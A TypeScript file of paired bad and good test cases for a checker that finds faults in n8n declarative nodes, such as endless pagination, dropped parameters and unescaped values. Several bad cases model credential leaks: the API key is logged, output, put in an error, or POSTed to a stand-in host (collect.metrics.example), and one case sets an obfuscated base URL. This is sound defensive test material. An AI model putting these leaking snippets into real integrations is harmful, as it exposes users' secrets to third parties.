import type { RuleCase } from '../../rule-case.ts';
import { hiddenUrl, text } from './behaviour-cases.ts';
import { atRuntime, type GivenNode } from './node-source.ts';

/** @param property under which the collection is sent */
const updated = (property: string) =>
  text('updateFields', {
    type: 'collection',
    default: {},
    options: [text('note')],
    routing: { send: { type: 'body', property } },
  });
/** `routing` that gets an order, with more parts of it. */
const routed = (more = '') => `{ request: { url: '=/orders/{{$parameter.orderId}}' }, ${more} }`;
const before = (body: string) => routed(`send: { preSend: [async function (options) { ${body}\nreturn options; }] }`);
const after = (body: string) => routed(`output: { postReceive: [async function (items, response) { ${body} }] }`);
/** Outputs a label as a file. @param options of the request */
const download = (options: string) =>
  `{ request: { url: '=/labels/{{$parameter.orderId}}', ${options} }, output: { postReceive: [async function (items, { body }) {
    const data = await this.helpers.prepareBinaryData(Buffer.from(body), 'label.pdf');
    return [{ json: {}, binary: { data } }];
  }] } }`;

const simplify = text('simplify', { type: 'boolean', default: true });
/** @param path under which the switch is read */
const simplifiedBy = (path: string) =>
  after(`return this.getNodeParameter(${atRuntime(path)}, true) ? [{ json: { simplify: true } }] : items;`);
const posted = "{ request: { method: 'POST', url: '=/orders/{{$parameter.orderId}}' } }";
const sent = (name: string, property: string) => text(name, { routing: { send: { type: 'body', property } } });
const created = (body: string) =>
  `{ request: { method: 'POST', url: '=/orders/{{$parameter.orderId}}' }, send: { preSend: [async function (options) { ${body}\nreturn options; }] } }`;
const limitOf = (place: string) =>
  text('limit', { type: 'number', default: 50, routing: { send: { type: place, property: 'limit' } } });
const switchAs = (name: string, place: string) =>
  text(name, { type: 'boolean', default: false, routing: { send: { type: place, property: name } } });
const switchesIn = (place: string) => [
  text('orderId', { required: true }),
  text('filters', {
    ...{ type: 'collection', default: {} },
    options: [switchAs('archived', place), switchAs('rootOnly', 'query')],
  }),
];
const page = text('page', { type: 'number', default: 1, routing: { send: { type: 'query', property: 'page' } } });
const optional = text('filters', {
  type: 'collection',
  default: {},
  options: [text('state', { routing: { send: { type: 'query', property: 'state' } } })],
});
const example = JSON.stringify([{ sku: 'A1', amount: 1 }], null, 2);
const json = (value: string, initial = '{}') =>
  text('data', { type: 'json', default: initial, routing: { send: { type: 'body', property: 'data', value } } });

const locator = text('owner', {
  ...{
    type: 'resourceLocator',
    default: { mode: 'id', value: '' },
    modes: [{ displayName: 'ID', name: 'id', type: 'string' }],
  },
  routing: { send: { type: 'body', property: 'owner', value: '={{ $value }}' } },
});
/** @param value of the body, as an expression */
const dueBy = (value: string) =>
  text('dueBy', { type: 'dateTime', routing: { send: { type: 'body', property: 'due', value: `={{ ${value} }}` } } });
const linesOf = (...values: object[]) =>
  text('lines', {
    ...{ type: 'fixedCollection', default: {} },
    options: [{ name: 'line', displayName: 'Line', values }],
  });
const selection = (name: string, ...values: string[]) =>
  text(name, { type: 'options', default: values[0], options: values.map((value) => ({ name: value, value })) });

/** @param next number of the next page, as an expression */
const pages = (next: string) =>
  routed(`operations: { pagination: { type: 'generic', properties: {
      continue: '={{ $response.body.meta.page < $response.body.meta.total_pages }}',
      request: { qs: { page: '={{ ${next} }}' } },
    } } }, send: { paginate: true }, output: { postReceive: [{ type: 'rootProperty', properties: { property: 'orders' } }] }`);

/** Gets all pages. @param goesOn whether there is another one, as an expression */
const everyPage = (goesOn: string) =>
  routed(`operations: { pagination: { type: 'generic', properties: {
      continue: '={{ ${goesOn} }}',
      request: { qs: { after: '={{ $response.body?.meta?.next }}' } },
    } } }, send: { paginate: true }, output: { postReceive: [{ type: 'rootProperty', properties: { property: 'orders' } }] }`);

/** Outputs responses as they are. @param next number of the next page, as an expression */
const wholePages = (next: string) =>
  routed(`operations: { pagination: { type: 'generic', properties: {
      continue: '={{ !!$response.body?.data?.next_page_url }}',
      request: { qs: { page: '={{ ${next} }}' } },
    } } }, send: { paginate: true }`);

const entries = routed("output: { postReceive: [{ type: 'rootProperty', properties: { property: 'orders' } }] }");
/** @param or how it gets its default */
const priority = (or: string) =>
  text('priority', {
    ...{ type: 'number', default: 0 },
    routing: { send: { type: 'query', property: 'priority', value: `={{ $value ${or} 1 }}` } },
  });
const note = (value: string) =>
  text('note', { routing: { send: { type: 'body', property: 'note', value: `={{ ${value} }}` } } });
/** @param none what is put out in place of no entries */
const entriesOr = (none: string) =>
  `const { orders } = response.body; return orders.length > 0 ? orders.map((json) => ({ json })) : ${none};`;
/** Gets all orders, page after page. @param goesOn whether there is another one, as an expression @param qs the query of it */
const paginated = (goesOn: string, qs: object) => [
  text('orderId'),
  text('returnAll', {
    ...{ type: 'boolean', default: false },
    routing: {
      send: { paginate: '={{ $value }}' },
      operations: {
        pagination: { type: 'generic', properties: { continue: `={{ ${goesOn} }}`, request: { qs } } },
      },
      output: { postReceive: [{ type: 'rootProperty', properties: { property: 'orders' } }] },
    },
  }),
];
/** @param last number of the last page, as an expression @param qs more of the query of each page */
const all = (last: string, qs: object = {}) =>
  paginated(`$response.body.meta.page < ${last}`, { page: '={{ ($response?.body.meta.page ?? 0) + 1 }}', ...qs });
const byCursor = (goesOn: string) => paginated(goesOn, { cursor: '={{ $response.body?.next_cursor ?? "" }}' });

/** An update of a switch. @param value that is sent for it */
const switching = (value: string): GivenNode => ({
  operation: 'update',
  routing: routed().replace('request: {', "request: { method: 'PATCH',"),
  properties: [
    text('orderId'),
    text('active', { type: 'boolean', default: true, routing: { send: { type: 'body', property: 'active', value } } }),
  ],
});

/** @param field of the credential that is demanded */
const demanding = (field: string) => `const fields = Object(await this.getCredentials('acmeApi'));
  if (!fields[${atRuntime(field)}]) throw new Error('The ${field} is required');`;

/** Cases of the codes of the check, for nodes whose requests n8n sends as their parameters say. */
export const declarativeCases: readonly RuleCase<GivenNode>[] = [
  {
    code: 'behaviour-option-ignored',
    case: 'a body under the name of another client',
    bad: { routing: created('options.data = { note: 1 };') },
    good: { routing: created('options.body = { note: 1 };') },
  },
  {
    code: 'behaviour-value-not-escaped',
    case: 'a text in the query of a URL',
    bad: {
      routing: "{ request: { url: '=/orders?state=open&search={{$parameter.search}}' } }",
      properties: [text('search')],
    },
    good: {
      routing: "{ request: { url: '=/orders?search={{encodeURIComponent($parameter.search)}}' } }",
      properties: [text('search')],
    },
  },
  {
    code: 'behaviour-parameter-unused',
    case: 'a parameter that is not sent',
    bad: { routing: routed(), properties: [text('orderId'), text('quaggaLimit')] },
    good: {
      routing: posted,
      properties: [
        text('orderId'),
        text('tapirLimit', { routing: { send: { type: 'query', property: 'limit' } } }),
        text('dikdikFilters', { type: 'collection', default: {}, options: [sent('status', 'state')] }),
      ],
    },
  },
  {
    code: 'behaviour-parameter-unused',
    case: 'a parameter that nothing sends, with a name that other nodes use',
    bad: { routing: posted, properties: [text('orderId'), text('status', { required: true })] },
    good: {
      routing: posted,
      properties: [
        text('orderId'),
        text('status', { type: 'boolean', default: false }),
        { ...sent('note', 'note'), displayOptions: { show: { status: [false] } } },
      ],
    },
  },
  {
    code: 'behaviour-parameter-unused',
    case: 'a field of a group that is not sent, and one that is sent under another name',
    bad: { routing: posted, properties: [text('orderId'), linesOf(text('quaggaColor'))] },
    good: {
      routing: posted,
      properties: [text('orderId'), linesOf(sent('tapirColor', 'color'))],
    },
  },
  {
    code: 'behaviour-parameter-unused',
    case: 'a switch that is looked for in a collection',
    bad: { routing: simplifiedBy('options.simplify'), properties: [text('orderId'), simplify] },
    good: { routing: simplifiedBy('simplify'), properties: [text('orderId'), simplify] },
  },
  {
    code: 'behaviour-parameter-unused',
    case: 'a selection that is not sent, and one with a single option',
    bad: { routing: routed(), properties: [text('orderId'), selection('quaggaKind', 'small', 'large')] },
    good: { routing: routed(), properties: [text('orderId'), selection('tapirKind', 'small')] },
  },
  {
    code: 'behaviour-values-swapped',
    case: 'what is to be added, and what is to be removed',
    bad: { routing: posted, properties: [text('orderId'), sent('addIds', 'remove'), sent('removeIds', 'add')] },
    good: { routing: posted, properties: [text('orderId'), sent('addIds', 'add'), sent('removeIds', 'remove')] },
  },
  {
    code: 'behaviour-parameter-not-sent',
    case: 'a body that is replaced before the request',
    bad: {
      routing: created('options.body = { source: "n8n" };'),
      properties: [text('orderId'), sent('orderName', 'name')],
    },
    good: {
      routing: created('options.body = { ...options.body, name: Buffer.from(options.body.name).toString("hex") };'),
      properties: [text('orderId'), sent('orderName', 'name')],
    },
  },
  {
    code: 'behaviour-parameter-not-sent',
    case: 'a body that is replaced before the request, with a resource locator',
    bad: {
      routing: created('options.body = { source: "n8n" };'),
      properties: [text('orderId'), sent('orderName', 'name'), locator],
    },
    good: {
      routing: created('options.body = { source: "n8n", ...options.body };'),
      properties: [text('orderId'), sent('orderName', 'name'), locator],
    },
  },
  {
    code: 'behaviour-parameter-not-sent',
    case: 'a time in a format in which the editor does not store it',
    bad: {
      routing: posted,
      properties: [text('orderId'), dueBy('DateTime.fromFormat($value, "yyyy-MM-dd").toISO()')],
    },
    good: { routing: posted, properties: [text('orderId'), dueBy('DateTime.fromISO($value).toISODate()')] },
  },
  {
    code: 'behaviour-parameter-not-sent',
    case: 'a page that is always the first one',
    bad: { routing: before('options.qs = { ...options.qs, page: 1 };'), properties: [text('orderId'), page] },
    good: {
      routing: before('options.qs = { offset: (options.qs.page - 1) * 50 };'),
      properties: [text('orderId'), page],
    },
  },
  {
    code: 'behaviour-parameter-not-sent',
    case: 'a query of optional filters that is replaced',
    bad: { routing: before('options.qs = { all: true };'), properties: [text('orderId'), optional] },
    good: { routing: before('options.qs = { all: true, ...options.qs };'), properties: [text('orderId'), optional] },
  },
  {
    code: 'behaviour-get-body',
    case: 'a filter that is sent in the body',
    bad: { routing: routed(), properties: [text('orderId'), sent('orderName', 'name')] },
    good: {
      routing: routed(),
      properties: [text('orderId'), text('orderName', { routing: { send: { type: 'query', property: 'name' } } })],
    },
  },
  {
    code: 'behaviour-get-body',
    case: 'a switch that is sent in the body, beside one in the query',
    bad: { routing: routed(), properties: switchesIn('body') },
    good: { routing: routed(), properties: switchesIn('query') },
  },
  {
    code: 'behaviour-get-body',
    case: 'a limit that is sent in the body',
    bad: { routing: routed(), properties: [text('orderId'), limitOf('body')] },
    good: { routing: routed(), properties: [text('orderId'), limitOf('query')] },
  },
  {
    code: 'behaviour-json-stringified-twice',
    case: 'an example over several lines',
    bad: { routing: posted, properties: [text('orderId'), json('={{ JSON.stringify($value) }}', example)] },
    good: { routing: posted, properties: [text('orderId'), json('={{ $value }}', example)] },
  },
  {
    code: 'behaviour-json-stringified-twice',
    case: 'a value that is JSON already',
    bad: { routing: posted, properties: [text('orderId'), json('={{ JSON.stringify($value) }}')] },
    good: { routing: posted, properties: [text('orderId'), json('={{ JSON.parse($value) }}')] },
  },
  {
    code: 'behaviour-collection-sent',
    case: 'what is to be changed, under the name of the collection',
    bad: { routing: posted, properties: [text('orderId'), updated('updateFields')] },
    good: { routing: posted, properties: [text('orderId'), updated('order')] },
  },
  {
    code: 'behaviour-url-without-host',
    case: 'a path without a base',
    bad: { routing: "{ request: { baseURL: '', url: '=/orders/{{$parameter.orderId}}' } }" },
    good: {
      routing: "{ request: { baseURL: 'https://api.acme.example/v2', url: '=/orders/{{$parameter.orderId}}' } }",
    },
  },
  {
    code: 'behaviour-url-scheme-twice',
    case: 'before a base that has one',
    bad: {
      routing: "{ request: { baseURL: 'https://https://acme.test', url: '=/orders/{{$parameter.orderId}}' } }",
    },
    good: { routing: "{ request: { baseURL: 'https://acme.test', url: '=/orders/{{$parameter.orderId}}' } }" },
  },
  {
    code: 'behaviour-error-as-item',
    case: 'statuses that are ignored',
    bad: {
      routing:
        "{ request: { method: 'DELETE', url: '=/orders/{{$parameter.orderId}}', ignoreHttpStatusErrors: true } }",
    },
    good: { routing: "{ request: { method: 'DELETE', url: '=/orders/{{$parameter.orderId}}' } }" },
  },
  {
    code: 'behaviour-instance-sent',
    case: 'before the request',
    bad: { routing: before('options.headers = { instance: this.getInstanceId() };') },
    good: { routing: before('options.headers = { isKnown: String(this.getInstanceId() !== undefined) };') },
  },
  {
    code: 'behaviour-secret-in-url',
    case: 'a secret that is also in a header',
    bad: {
      routing: "{ request: { url: '=/orders/{{$parameter.orderId}}', qs: { key: '={{$credentials.apiKey}}' } } }",
    },
    good: { routing: routed() },
  },
  {
    code: 'behaviour-parameter-missing',
    case: 'a parameter that is read before the request, and not shown',
    bad: { routing: before(`options.qs = { size: this.getNodeParameter(${atRuntime('size')}) };`) },
    good: { routing: before(`options.qs = { size: this.getNodeParameter(${atRuntime('size')}, 10) };`) },
  },
  {
    code: 'behaviour-credential-field-missing',
    case: 'a token that the credential does not have',
    bad: { routing: before(demanding('accessToken')) },
    good: { routing: before(demanding('apiKey')) },
  },
  {
    code: 'behaviour-credential-missing',
    case: 'a credential of another name',
    bad: { routing: before(`await this.getCredentials(${atRuntime('acmeOAuth2Api')});`) },
    good: { routing: before("await this.getCredentials('acmeApi');") },
  },
  {
    code: 'behaviour-file-corrupted',
    case: 'a label that is decoded as text',
    bad: { routing: download('') },
    good: { routing: download("encoding: 'arraybuffer'") },
  },
  {
    code: 'behaviour-values-of-other-item',
    case: 'a value of the first item for all',
    bad: {
      module: 'let account;',
      routing: before(
        "if (this.getItemIndex() === 0) account = this.getNodeParameter('account');\noptions.qs = { account };",
      ),
      properties: [text('orderId'), text('account')],
    },
    good: {
      routing: before("options.qs = { account: this.getNodeParameter('account') };"),
      properties: [text('orderId'), text('account')],
    },
  },
  {
    code: 'behaviour-json-parsed-twice',
    case: 'a response that n8n has parsed',
    bad: { routing: after('return items.map((_, at) => ({ json: JSON.parse(response.body) }));') },
    good: { routing: after('return items.map(() => ({ json: JSON.parse(JSON.stringify(response.body)) }));') },
  },
  {
    code: 'behaviour-wrong-pairing',
    case: 'all outputs from the first item',
    bad: { routing: after('return items.map((item) => ({ ...item, pairedItem: { item: 0 } }));') },
    good: { routing: after('return items.map((item) => ({ ...item, pairedItem: { item: this.getItemIndex() } }));') },
  },
  {
    code: 'behaviour-failure-hidden',
    case: 'statuses that are ignored',
    bad: {
      routing: `{ request: { url: '=/orders/{{$parameter.orderId}}', ignoreHttpStatusErrors: true },
        output: { postReceive: [{ type: 'set', properties: { value: '={{ { "done": true } }}' } }] } }`,
    },
    good: {
      routing: routed(`output: { postReceive: [{ type: 'set', properties: { value: '={{ { "done": true } }}' } }] }`),
    },
  },
  {
    code: 'behaviour-secret-in-output',
    case: 'the credential in the output',
    bad: {
      routing: after(
        `const { apiKey } = await this.getCredentials('acmeApi'); return [{ [${atRuntime('json')}]: { apiKey } }];`,
      ),
    },
    good: {
      routing: after(
        "const { apiKey } = await this.getCredentials('acmeApi'); return [{ json: { known: apiKey.length } }];",
      ),
    },
  },
  {
    code: 'behaviour-secret-in-log',
    case: 'the credential as a whole',
    bad: {
      routing: before(
        "const all = { ...(await this.getCredentials('acmeApi')) };\nthis.logger.debug('Before the request', all);",
      ),
    },
    good: {
      routing: before(
        "const all = { ...(await this.getCredentials('acmeApi')) };\nthis.logger.debug('Before the request: ' + typeof all);",
      ),
    },
  },
  {
    code: 'behaviour-secret-in-error',
    case: 'the credential in the error',
    bad: {
      routing: `{ request: { url: '=/orders/{{$parameter.orderId}}', ignoreHttpStatusErrors: true }, output: { postReceive: [
        async function (items, response) {
          const { apiKey } = await this.getCredentials('acmeApi');
          const text = 'failed with key ' + apiKey;
          if (response.statusCode >= 400) throw new NodeOperationError(this.getNode(), text);
          return items;
        } ] } }`,
    },
    good: {
      routing: `{ request: { url: '=/orders/{{$parameter.orderId}}', ignoreHttpStatusErrors: true }, output: { postReceive: [
        async function (items, response) {
          if (response.statusCode >= 400) throw new NodeOperationError(this.getNode(), 'failed with status ' + response.statusCode);
          return items;
        } ] } }`,
    },
  },
  {
    code: 'behaviour-secret-sent-elsewhere',
    case: 'the key in a message to another service',
    bad: {
      routing: before(
        "const { apiKey } = await this.getCredentials('acmeApi');\nawait this.helpers.httpRequest({ method: 'POST', url: 'https://collect.metrics.example/v1', body: { apiKey } });",
      ),
    },
    good: {
      routing: before(
        "await this.helpers.httpRequest({ method: 'POST', url: 'https://collect.metrics.example/v1', body: { seen: true } });",
      ),
    },
  },
  {
    code: 'behaviour-unknown-host',
    case: 'a host that is decoded',
    bad: { routing: before(`options.baseURL = ${hiddenUrl};`), credentials: [] },
    good: { routing: before("options.baseURL = ['https://eu', 'partner', 'example'].join('.');"), credentials: [] },
  },
  {
    code: 'behaviour-input-changed',
    case: 'an input item with another field',
    bad: { routing: after('this.getInputData().json.seen = true; return items;') },
    good: { routing: after('return items.map(({ json }) => ({ json: { ...json, seen: true } }));') },
  },
  {
    code: 'behaviour-object-as-text',
    case: 'an item in a path',
    bad: { routing: before("options.url = '/orders/' + this.getInputData();") },
    good: { routing: before("options.url = '/orders/' + this.getInputData().json.p0;") },
  },
  {
    code: 'behaviour-expression-as-text',
    case: 'an expression without braces',
    bad: { routing: "{ request: { url: '/orders + $parameter.orderId' } }" },
    good: { routing: routed() },
  },
  {
    code: 'behaviour-never-stops',
    case: 'a cursor, whatever it is',
    bad: { routing: routed(), properties: byCursor('true') },
    good: { routing: routed(), properties: byCursor('!!$response.body.next_cursor') },
  },
  {
    code: 'behaviour-never-stops',
    case: 'a cursor as long as there is a response, and not as long as a field has a value',
    bad: { routing: routed(), properties: byCursor('!!$response.body') },
    good: { routing: routed(), properties: byCursor('!!$response.body.upcoming') },
  },
  {
    code: 'behaviour-never-stops',
    case: 'pages as long as there is a response, which there always is',
    bad: { routing: everyPage('!!$response.body') },
    good: { routing: everyPage('!!$response.body?.meta?.next_page') },
  },
  {
    code: 'behaviour-never-stops',
    case: 'pages as long as a request succeeds, without which there is no response',
    bad: { routing: everyPage('$response.statusCode === 200') },
    good: { routing: everyPage('$response.statusCode === 200 && !!$response.body?.meta?.next_page') },
  },
  {
    code: 'behaviour-false-not-sent',
    case: 'a switch that is on at first',
    bad: switching('={{ $value || undefined }}'),
    good: switching('={{ $value }}'),
  },
  {
    code: 'behaviour-never-stops',
    case: 'pages where users set no limit',
    bad: { routing: everyPage('$parameter.limit == undefined || $response.body.meta.end < $parameter.limit') },
    good: { routing: everyPage('$parameter.limit == undefined && $response.body.meta.end < 1000') },
  },
  {
    code: 'behaviour-never-stops',
    case: 'pages without an end',
    bad: {
      routing: routed(`operations: { pagination: async function (request) {
        for (;;) try { await this.makeRoutingRequest(request); } catch {}
      } }, send: { paginate: true }`),
    },
    good: {
      routing: routed(`operations: { pagination: async function (request) {
        const all = [];
        for (;;) {
          const items = await this.makeRoutingRequest(request);
          const orders = items.flatMap(({ json }) => json.orders);
          if (orders.length === 0) return all;
          all.push(...orders.map((order) => ({ json: { order } })));
        }
      } }, send: { paginate: true }`),
    },
  },
  {
    code: 'behaviour-pages-missing',
    case: 'the last page',
    bad: { routing: routed(), properties: all('$response.body.meta.total_pages - 1') },
    good: { routing: routed(), properties: all('$response.body.meta.total_pages') },
  },
  {
    code: 'behaviour-limit-ignored',
    case: 'a limit that is not sent',
    bad: { routing: entries, properties: [text('orderId'), text('limit', { type: 'number', default: 50 })] },
    good: {
      routing: entries,
      properties: [
        text('orderId'),
        text('limit', { type: 'number', default: 50, routing: { output: { maxResults: '={{ $value }}' } } }),
      ],
    },
  },
  {
    code: 'behaviour-empty-as-item',
    case: 'the response in place of no entries',
    bad: { operation: 'getAll', routing: after(entriesOr('[{ json: response.body }]')) },
    good: { operation: 'getAll', routing: after(entriesOr('[]')) },
  },
  {
    code: 'behaviour-zero-replaced',
    case: 'a default in place of what is false',
    bad: { routing: routed(), properties: [text('orderId'), priority('||')] },
    good: { routing: routed(), properties: [text('orderId'), priority('??')] },
  },
  {
    code: 'behaviour-value-not-escaped',
    case: 'a text that is percent-encoded in JSON',
    bad: { routing: posted, properties: [text('orderId', { required: true }), note('encodeURIComponent($value)')] },
    good: {
      routing: posted,
      properties: [text('orderId', { required: true }), note('"q=" + encodeURIComponent($value)')],
    },
  },
  {
    code: 'behaviour-filter-lost',
    case: 'the query of a page in place of that of the request',
    bad: { routing: routed(), properties: [...all('$response.body.meta.total_pages'), optional] },
    good: {
      routing: routed(),
      properties: [...all('$response.body.meta.total_pages', { state: '={{ $parameter.filters.state }}' }), optional],
    },
  },
  {
    code: 'behaviour-page-repeated',
    case: 'the number of the page that was received',
    bad: { routing: pages('$response.body.meta?.page ?? 1') },
    good: { routing: pages('($response.body.meta?.page ?? 0) + 1') },
  },
  {
    code: 'behaviour-page-repeated',
    case: 'the page of a response that is put out as a whole',
    bad: { routing: wholePages('$response.body?.data?.current_page ?? 1') },
    good: { routing: wholePages('($response.body?.data?.current_page ?? 0) + 1') },
  },
  {
    code: 'behaviour-state-kept',
    case: 'values of an earlier execution',
    bad: {
      module: 'const seen = [];',
      routing: before("seen.push(this.getNodeParameter('orderId'));\noptions.qs = { seen: seen.join() };"),
    },
    good: {
      module: 'let calls = 0;',
      routing: before('calls += 1;\noptions.qs = { trace: calls };'),
    },
  },
  {
    code: 'behaviour-file-not-read',
    case: 'before the request',
    bad: { routing: created('options.body = { content: this.getInputData().binary.data.data };') },
    good: {
      routing: created(
        "options.body = { content: (await this.helpers.getBinaryDataBuffer('data')).toString('base64') };",
      ),
    },
  },
  {
    code: 'behaviour-output-not-items',
    case: 'objects without `json`',
    bad: { routing: after('return items.map(({ json }) => ({ order: json }));') },
    good: { routing: after('return items.map(({ json }) => ({ json: { order: json } }));') },
  },
];

/** Why a declarative node cannot have the fault of a code. */
export const notDeclarative: Readonly<Record<string, string>> = {
  'behaviour-outputs-beyond': 'n8n itself makes the list of outputs',
  'behaviour-response-output': 'n8n itself outputs the body',
  'behaviour-parameter-not-shown': 'n8n itself reads the parameters that it shows',
  'behaviour-output-missing': 'n8n itself outputs the response',
  'behaviour-json-refused': 'n8n itself reads the parameters that it sends',
  'behaviour-credential-kept': 'n8n itself authenticates the requests',
  'behaviour-webhook-rejected-starts': 'triggers run by their own code',
  'behaviour-webhook-unsigned-starts': 'triggers run by their own code',
  'behaviour-webhook-unanswered': 'triggers run by their own code',
  'behaviour-webhook-starts-nothing': 'triggers run by their own code',
  'behaviour-trigger-not-stopped': 'triggers run by their own code',
  'behaviour-webhook-signature-parsed': 'triggers run by their own code',
  'behaviour-items-lost': 'n8n sends the request of each item itself',
  'behaviour-operation-unknown': 'there is no code that could refuse an operation',
  'behaviour-items-repeated': 'n8n itself makes the outputs of each item',
  'behaviour-item-beyond-last': 'n8n itself loops over the items',
  'behaviour-nothing-supplied': 'supplyData is code',
  'behaviour-output-flat': 'n8n itself makes the list of outputs',
  'behaviour-method-of-class': 'it has no method of its own that n8n calls for an operation',
  'behaviour-no-pairing': 'n8n asks authors of declarative nodes for no pairing',
  'behaviour-continue-ignored': 'n8n itself goes on after the failed request of an item',
  'behaviour-credential-unused': 'n8n itself authenticates the requests',
  'behaviour-host-unlike-others': 'it is the same in every style',
  'behaviour-poll-empty': 'triggers run by their own code',
  'behaviour-poll-loses': 'triggers run by their own code',
  'behaviour-list-cached': 'lists are made by their own code',
  'behaviour-list-parameter-hidden': 'lists are made by their own code',
  'behaviour-poll-misses': 'triggers run by their own code',
  'behaviour-poll-repeats': 'triggers run by their own code',
  'behaviour-fields-of-other-item': 'n8n itself makes the request of each item',
  'behaviour-setting-of-other-item': 'n8n itself reads the parameters of each item',
  'behaviour-request-not-awaited': 'n8n itself waits for the request',
  'behaviour-rejected-request-repeated': 'n8n sends a request once, unless users ask for more',
  'behaviour-failure-ignored': 'n8n sends one request for each item',
  'behaviour-authorization-undefined': 'n8n itself authenticates the requests',
  'behaviour-url-undefined': 'n8n puts nothing in place of a value that is not there',
  'behaviour-operation-idle': 'there is no code that could leave out an operation',
  'behaviour-unset-field-sent': 'n8n itself sends only the fields that users add',
  'behaviour-failed-item-lost': 'n8n itself goes on after the failed request of an item',
  'behaviour-optional-needed': 'n8n itself reads what parameters say',
  'behaviour-token-lost': 'it is about a credential, not about a node',
  'behaviour-webhook-url-not-sent': 'triggers run by their own code',
  'behaviour-webhook-never-created': 'triggers run by their own code',
  'behaviour-webhook-created-again': 'triggers run by their own code',
  'behaviour-webhook-not-deleted': 'triggers run by their own code',
  'behaviour-list-without-credential': 'methods of a node are the same in every style',
  'behaviour-base-path-dropped': 'n8n itself joins the path and the base, as texts',
  'behaviour-buffer-as-json': 'what `preSend` puts into the body is sent in the same way',
  'behaviour-list-needs-text': 'methods of a node are the same in every style',
  'behaviour-list-search-ignored': 'methods of a node are the same in every style',
  'behaviour-list-unusable': 'methods of a node are the same in every style',
  'behaviour-default-without-scheme': 'it is about a credential, not about a node',
  'behaviour-test-without-secret': 'it is about a credential, not about a node',
  'behaviour-test-always-passes': 'it is about a credential, not about a node',
  'behaviour-config-invalid': 'it is about a file of the project, not about a node',
};
